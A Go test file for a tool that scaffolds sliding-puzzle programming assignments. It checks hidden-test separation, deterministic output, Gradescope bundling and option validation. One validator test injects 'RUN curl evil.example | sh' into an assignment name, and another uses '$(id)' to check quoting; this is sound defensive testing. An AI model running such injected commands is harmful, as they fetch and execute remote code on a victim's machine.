package scaffold_test

import (
	"archive/zip"
	"bytes"
	"context"
	"debug/elf"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/kpuzzle/kpuzzle/grader"
	"github.com/kpuzzle/kpuzzle/grader/scaffold"
	"github.com/kpuzzle/kpuzzle/puzzles"
	"github.com/kpuzzle/kpuzzle/reference/setgen"
	"go.yaml.in/yaml/v3"
)

// smallOptions make a small assignment quickly: 2x3 and 3x3 boards, two
// public and one hidden solvable test and one unsolvable test in each
// half, per shape.
func smallOptions() scaffold.Options {
	return scaffold.Options{
		Name: "Homework 2", Language: "java", Shapes: []puzzles.Shape{{Rows: 2, Cols: 3}, {Rows: 3, Cols: 3}},
		Depth: &setgen.Range{Min: 2, Max: 8}, Public: 2, Hidden: 1, Unsolvable: 1, Seed: 7,
		Convention: puzzles.BlankMoves, Format: puzzles.FormatRows, WallTime: 5 * time.Second,
		KpuzzleVersion: "v1.2.3", GoVersion: "go1.26.8",
	}
}

// readAssignment reads an assignment file as kpuzzle grade does.
func readAssignment(t *testing.T, path string) grader.Assignment {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var settings map[string]any
	if err := yaml.Unmarshal(data, &settings); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	asg, err := grader.ParseAssignment(settings, filepath.Dir(path), nil)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return asg
}

// TestNewAndWrite makes an assignment folder without the command line:
// every part is written, the students' copy holds the public tests and
// nothing that regenerates the hidden ones, both assignment files are
// accepted by the grader, and the same options give the same files.
func TestNewAndWrite(t *testing.T) {
	sc, err := scaffold.New(context.Background(), smallOptions())
	if err != nil {
		t.Fatal(err)
	}
	if sc.Set.Manifest.Seed == nil || *sc.Set.Manifest.Seed != 7 || !strings.Contains(sc.Set.Manifest.Generator, "--seed 7") {
		t.Errorf("the private manifest: seed %v, generator %q", sc.Set.Manifest.Seed, sc.Set.Manifest.Generator)
	}
	if sc.Public.Manifest.Seed != nil || sc.Public.Manifest.Generator != scaffold.PublicGenerator {
		t.Errorf("the students' manifest: seed %v, generator %q", sc.Public.Manifest.Seed, sc.Public.Manifest.Generator)
	}
	var wantPublic, gotPublic []string
	for _, p := range sc.Set.Puzzles {
		if !p.Entry.Hidden {
			wantPublic = append(wantPublic, strings.TrimPrefix(p.Entry.File, "public/"))
		}
	}
	for _, p := range sc.Public.Puzzles {
		gotPublic = append(gotPublic, p.Entry.File)
	}
	if diff := cmp.Diff(wantPublic, gotPublic); diff != "" || len(gotPublic) != 6 {
		t.Errorf("the students' tests (-want +got):\n%s", diff)
	}
	d := sc.Data
	if d.Language.Name != "java" || len(d.Others) != 3 || d.Convention != "blank" || d.Shapes != "2x3 and 3x3" || d.WallTime != "5s" ||
		d.Depths != "2 to 8 moves (2x3) and 2 to 8 moves (3x3)" || d.Large ||
		d.KpuzzleModuleVersion != "v1.2.3" || d.GoSetupVersion != "1.26.8" || !strings.Contains(d.Language.Local, "puzzles/"+d.Example) {
		t.Errorf("data %+v", d)
	}
	if i := slices.IndexFunc(sc.Public.Puzzles, func(p puzzles.SetPuzzle) bool { return p.Entry.File == d.Example }); i < 0 || !sc.Public.Puzzles[i].Entry.Solvable {
		t.Errorf("the handout's example %s is not a solvable public test", d.Example)
	}

	dir := t.TempDir()
	if err := scaffold.Write(dir, sc); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, p := range scaffold.Parts() {
		if seen[p.Path] {
			t.Errorf("two parts write %s", p.Path)
		}
		seen[p.Path] = true
		if _, err := os.Stat(filepath.Join(dir, filepath.FromSlash(p.Path))); err != nil {
			t.Errorf("part %s: %v", p.Path, err)
		}
	}
	files, err := scaffold.Files(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"assignment.yaml", "handout.md", "README.md", "gradescope/setup.sh", "cluster/slurm.sh",
		"starter/java/Solver.java", "starter/python/solver.py", "starter/go/go.mod", "starter/cpp/solver.cpp",
		"puzzles/manifest.json", "puzzles/hidden/3x3/puzzle_1.txt", "classroom/Solver.java", "classroom/puzzles/2x3/puzzle_1.txt",
		"classroom/.kpuzzle/assignment.yaml", "classroom/.github/workflows/classroom.yml", "classroom/checker.html"} {
		if !slices.Contains(files, f) {
			t.Errorf("%s is missing from %v", f, files)
		}
	}
	// The sandbox probe is the instructor's own autograder (kpuzzle
	// bundle gradescope --probe), never a file a submission could copy.
	for _, f := range files {
		if strings.Contains(f, scaffold.SandboxProbeFile) {
			t.Errorf("the assignment folder holds %s, the sandbox probe's marker", f)
		}
	}
	if page, err := os.ReadFile(filepath.Join(dir, "classroom", "checker.html")); err != nil {
		t.Error(err)
	} else if p := string(page); !strings.Contains(p, `"name":"2x3/puzzle_1.txt"`) || strings.Contains(p, "hidden/") || !strings.Contains(p, `value="blank" checked`) {
		t.Error("classroom/checker.html does not hold the public tests alone with the blank convention")
	}
	for _, f := range []string{"gradescope/setup.sh", "gradescope/run_autograder", "cluster/slurm.sh"} {
		if st, err := os.Stat(filepath.Join(dir, f)); err != nil || st.Mode().Perm() != 0o755 {
			t.Errorf("%s is not executable: %v", f, err)
		}
	}
	for f, want := range map[string]int{"assignment.yaml": 10, "classroom/.kpuzzle/assignment.yaml": 6} {
		asg := readAssignment(t, filepath.Join(dir, f))
		tests, err := asg.LoadTests()
		if err != nil || len(tests) != want || asg.ConventionName != "blank" {
			t.Errorf("%s: %d tests (%v), moves %q; want %d tests, blank", f, len(tests), err, asg.ConventionName, want)
		}
	}

	again := t.TempDir()
	sc2, err := scaffold.New(context.Background(), smallOptions())
	if err != nil {
		t.Fatal(err)
	}
	if err := scaffold.Write(again, sc2); err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		a, _ := os.ReadFile(filepath.Join(dir, f))
		b, err := os.ReadFile(filepath.Join(again, f))
		if err != nil || !bytes.Equal(a, b) {
			t.Errorf("%s differs between two scaffolds of the same options (%v)", f, err)
		}
	}
}

func TestNewRefuses(t *testing.T) {
	for _, tc := range []struct {
		change func(*scaffold.Options)
		option string
		text   string
	}{
		{func(o *scaffold.Options) { o.Language = "cobol" }, "language", "python, java, cpp, go"},
		{func(o *scaffold.Options) { o.Goal = "snail" }, "goal", "default and blank-first"},
		{func(o *scaffold.Options) { o.Public, o.Unsolvable = 0, 0 }, "", "at least one public test"},
		{func(o *scaffold.Options) { o.Hidden = -1 }, "", "negative"},
		{func(o *scaffold.Options) { o.Format = puzzles.FormatPrinceton }, "format", "2x3 is not square"},
		{func(o *scaffold.Options) { o.Format = puzzles.FormatJSON }, "format", "the starter code reads rows and princeton files only"},
		{func(o *scaffold.Options) { o.Format = puzzles.FormatNPuzzle }, "format", "kpuzzle gen --format 42"},
		{func(o *scaffold.Options) { o.WallTime = time.Millisecond }, "wall-time", "too short"},
		{func(o *scaffold.Options) { o.Shapes = nil }, "shape", "no board"},
		{func(o *scaffold.Options) { o.Name = "hw2\nRUN curl evil.example | sh" }, "name", `"hw2<U+000A>RUN curl evil.example | sh" holds a line break`},
		{func(o *scaffold.Options) { o.Name = "bad\xffbytes" }, "name", "expected one line of text"},
	} {
		o := smallOptions()
		tc.change(&o)
		_, err := scaffold.New(context.Background(), o)
		var oe *scaffold.OptionError
		if !errors.As(err, &oe) || oe.Option != tc.option || !strings.Contains(err.Error(), tc.text) {
			t.Errorf("%+v: %v; want an OptionError on %q saying %q", o, err, tc.option, tc.text)
		}
	}
	o := smallOptions()
	o.Depth = &setgen.Range{Min: 30, Max: 33}
	if _, err := scaffold.New(context.Background(), o); !errors.Is(err, setgen.ErrSpec) {
		t.Errorf("depths beyond the 2x3 board's largest: %v", err)
	}
}

// An assignment's name with quotes, backslashes and a shell's special
// characters (31.5: `The "k" puzzle` made an assignment.yaml that grade
// refused) is written so that both assignment files read it back as it
// is, and the starter code still holds it in its comments.
func TestNewQuotesTheName(t *testing.T) {
	o := smallOptions()
	o.Name = `The "k" puzzle: it's \ $(id) */ """`
	sc, err := scaffold.New(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := scaffold.Write(dir, sc); err != nil {
		t.Fatal(err)
	}
	if got := readAssignment(t, filepath.Join(dir, "assignment.yaml")).Name; got != o.Name {
		t.Errorf("assignment.yaml: name %q, want %q", got, o.Name)
	}
	if got := readAssignment(t, filepath.Join(dir, "classroom", ".kpuzzle", "assignment.yaml")).Name; got != o.Name+" (public tests)" {
		t.Errorf("classroom assignment: name %q", got)
	}
}

func TestDefaultDepths(t *testing.T) {
	for s, want := range map[puzzles.Shape]setgen.Range{
		{Rows: 3, Cols: 3}: {Min: 4, Max: 24}, {Rows: 4, Cols: 4}: {Min: 8, Max: 36},
		{Rows: 2, Cols: 3}: {Min: 4, Max: 15}, {Rows: 2, Cols: 2}: {Min: 1, Max: 4},
	} {
		if got := scaffold.DefaultDepths(s); got != want {
			t.Errorf("%s: %v, want %v", s, got, want)
		}
	}
}

func TestGuessLanguage(t *testing.T) {
	for cmds, want := range map[[2]string]string{
		{"javac Solver.java", "java -cp {submission} Solver"}:   "java",
		{"g++ -O2 -o solver solver.cpp", "{submission}/solver"}: "cpp",
		{"go build -o solver .", "{submission}/solver"}:         "go",
		{"", "python3 {submission}/solver.py {input} {output}"}: "python",
		{"make", "./run"}: "python",
	} {
		if got := scaffold.GuessLanguage(cmds[0], cmds[1]); got.Name != want {
			t.Errorf("GuessLanguage(%q) = %s, want %s", cmds, got.Name, want)
		}
	}
}

func TestWriteDemoSubmissions(t *testing.T) {
	dir := t.TempDir()
	names, err := scaffold.WriteDemoSubmissions(dir)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"python-astar", "python-crash", "python-greedy", "python-illegal", "python-loop"}, names); diff != "" {
		t.Errorf("submissions (-want +got):\n%s", diff)
	}
	for _, n := range names {
		if entries, err := os.ReadDir(filepath.Join(dir, n)); err != nil || len(entries) == 0 {
			t.Errorf("%s: %v, %d files", n, err, len(entries))
		}
	}
}

// x86Binary is a small Linux x86-64 executable, or "" when there is none.
func x86Binary() string {
	for _, p := range []string{"/bin/true", "/usr/bin/true"} {
		if f, err := elf.Open(p); err == nil {
			ok := f.Machine == elf.EM_X86_64
			f.Close()
			if ok {
				return p
			}
		}
	}
	return ""
}

// TestGradescopeBundle zips a scaffold: the files at their places, the
// built-in setup.sh when the folder has none, the same bytes twice.
// bundleScaffold writes a small scaffold for the bundle tests and finds
// an x86-64 binary to stand in for kpuzzle (skipping without one).
func bundleScaffold(t *testing.T) (sc scaffold.Scaffold, dir, bin string) {
	t.Helper()
	bin = x86Binary()
	if bin == "" {
		t.Skip("no x86-64 /bin/true to stand in for the kpuzzle binary")
	}
	sc, err := scaffold.New(context.Background(), smallOptions())
	if err != nil {
		t.Fatal(err)
	}
	dir = t.TempDir()
	if err := scaffold.Write(dir, sc); err != nil {
		t.Fatal(err)
	}
	return sc, dir, bin
}

func TestGradescopeBundle(t *testing.T) {
	sc, dir, bin := bundleScaffold(t)
	if err := os.RemoveAll(filepath.Join(dir, "gradescope")); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(dir, "assignment.yaml")
	b, err := scaffold.GradescopeBundle(config, readAssignment(t, config), bin, "v1.2.3", "go1.26.8")
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for _, p := range sc.Set.Puzzles {
		want = append(want, "puzzles/"+p.Entry.File)
	}
	want = append(want, "assignment.yaml", "kpuzzle", "puzzles/manifest.json", "run_autograder", "setup.sh")
	slices.Sort(want)
	if diff := cmp.Diff(want, b.Names()); diff != "" || b.Tests != 10 {
		t.Errorf("%d tests; files (-want +got):\n%s", b.Tests, diff)
	}
	for _, f := range b.Files {
		if f.Name == "setup.sh" && !strings.Contains(string(f.Data), "default-jdk-headless") {
			t.Errorf("the built-in setup.sh of a Java assignment does not install a JDK:\n%s", f.Data)
		}
	}
	zips := make([][]byte, 2)
	for i := range zips {
		path := filepath.Join(t.TempDir(), "a.zip")
		if err := b.WriteZip(path); err != nil {
			t.Fatal(err)
		}
		zips[i], _ = os.ReadFile(path)
	}
	if !bytes.Equal(zips[0], zips[1]) {
		t.Error("the same bundle gave two different zips")
	}
	zr, err := zip.NewReader(bytes.NewReader(zips[0]), int64(len(zips[0])))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		exec := f.Name == "kpuzzle" || f.Name == "setup.sh" || f.Name == "run_autograder"
		if !f.Modified.Equal(scaffold.ZipTime) || (f.Mode().Perm() == 0o755) != exec {
			t.Errorf("%s: modified %v, mode %v", f.Name, f.Modified, f.Mode())
		}
	}

	script := filepath.Join(t.TempDir(), "kpuzzle")
	if err := os.WriteFile(script, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := scaffold.CheckLinuxBinary(script); !errors.Is(err, scaffold.ErrNotLinuxBinary) {
		t.Errorf("a shell script: %v", err)
	}
	if err := scaffold.CheckLinuxBinary(bin); err != nil {
		t.Errorf("%s: %v", bin, err)
	}
}

// The default 5x5 tests are deep enough that the heuristic decides who
// finishes in time, and the handout says so.
func TestLargeBoardsSeparateHeuristics(t *testing.T) {
	if r := scaffold.DefaultDepths(puzzles.Shape{Rows: 5, Cols: 5}); r.Min < 30 || r.Max > 40 {
		t.Errorf("5x5 default depths %v, want within 30-40 (measured to separate misplaced tiles from Manhattan distance)", r)
	}
	lang, _, err := scaffold.LookupLanguage("python", "10s", "")
	if err != nil {
		t.Fatal(err)
	}
	for _, large := range []bool{false, true} {
		got, err := scaffold.Render("assignment/handout.md.tmpl", scaffold.Data{Name: "P", Language: lang, Large: large, Shapes: "5x5", Depths: "30 to 40 moves (5x5)"})
		if err != nil {
			t.Fatal(err)
		}
		if said := strings.Contains(string(got), "the same A* with the Manhattan\n   distance solves most"); said != large {
			t.Errorf("Large=%v: the handout's word on large boards present=%v:\n%s", large, said, got)
		}
		if !strings.Contains(string(got), "shortest solutions of\n30 to 40 moves (5x5).") {
			t.Errorf("the handout does not give the depths:\n%s", got)
		}
	}
}
